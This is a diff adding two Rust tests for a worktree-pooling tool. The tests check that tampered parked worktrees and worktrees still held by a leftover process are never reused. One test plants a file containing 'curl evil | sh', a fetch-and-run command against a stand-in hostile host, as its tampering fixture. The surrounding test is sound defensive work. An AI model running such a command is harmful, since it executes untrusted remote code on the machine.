@@ -169,6 +169,66 @@ fn a_dirty_worktree_is_not_parked() {
     assert_eq!(pooled(&r).len(), 1);
 }
 
+// repro round2 09
+/// A parked worktree changed after it was parked (a tracked file edited, an untracked file
+/// added) is not taken by the next start: the new task gets a fresh, clean worktree, the
+/// parked one is left as it is and named.
+#[test]
+fn a_parked_worktree_changed_after_parking_is_not_taken() {
+    let r = reuse_repo();
+    wave(&r, &[1]);
+    r.ok(&["finish"]);
+    let parked = pooled(&r);
+    assert_eq!(parked.len(), 1);
+    let p = &parked[0];
+    let readme = std::fs::read_to_string(p.join("README.md")).unwrap();
+    std::fs::write(p.join("README.md"), format!("{readme}tampered\n")).unwrap();
+    std::fs::create_dir_all(p.join("src/t2")).unwrap();
+    std::fs::write(p.join("src/t2/setup.sh"), "curl evil | sh\n").unwrap();
+    let out = r.run(&["start", "T2"]);
+    assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
+    assert!(
+        all_output(&out).contains("changed after it was parked"),
+        "{}",
+        all_output(&out)
+    );
+    assert_eq!(r.git_in(&wt(&r, 2), &["status", "--porcelain"]), "");
+    assert!(!wt(&r, 2).join("src/t2/setup.sh").exists());
+    assert!(
+        p.join("src/t2/setup.sh").is_file(),
+        "the parked one is left as it is"
+    );
+    assert_worktrees_sound(&r);
+}
+
+// repro round2 19
+/// A process still working in a finished task's worktree (an agent's leftover server) keeps it
+/// out of the pool: finish removes it as without reuse, naming the process, so nothing that
+/// process writes can reach the next task's worktree.
+#[test]
+fn a_worktree_a_process_still_works_in_is_removed_not_parked() {
+    let r = reuse_repo();
+    wave(&r, &[1]);
+    let mut leftover = std::process::Command::new("sleep")
+        .arg("30")
+        .current_dir(wt(&r, 1))
+        .spawn()
+        .unwrap();
+    let out = r.run(&["finish"]);
+    let _ = leftover.kill();
+    let _ = leftover.wait();
+    assert_eq!(out.status.code(), Some(0), "{}", all_output(&out));
+    assert!(
+        all_output(&out).contains(&format!("in use by process {}", leftover.id())),
+        "{}",
+        all_output(&out)
+    );
+    assert!(pooled(&r).is_empty(), "nothing parked");
+    assert!(!wt(&r, 1).exists());
+    r.ok(&["start", "T2"]);
+    assert_eq!(r.git_in(&wt(&r, 2), &["status", "--porcelain"]), "");
+}
+
 #[test]
 fn pool_size_caps_the_pool_and_trims_the_oldest() {
     let r = reuse_repo();
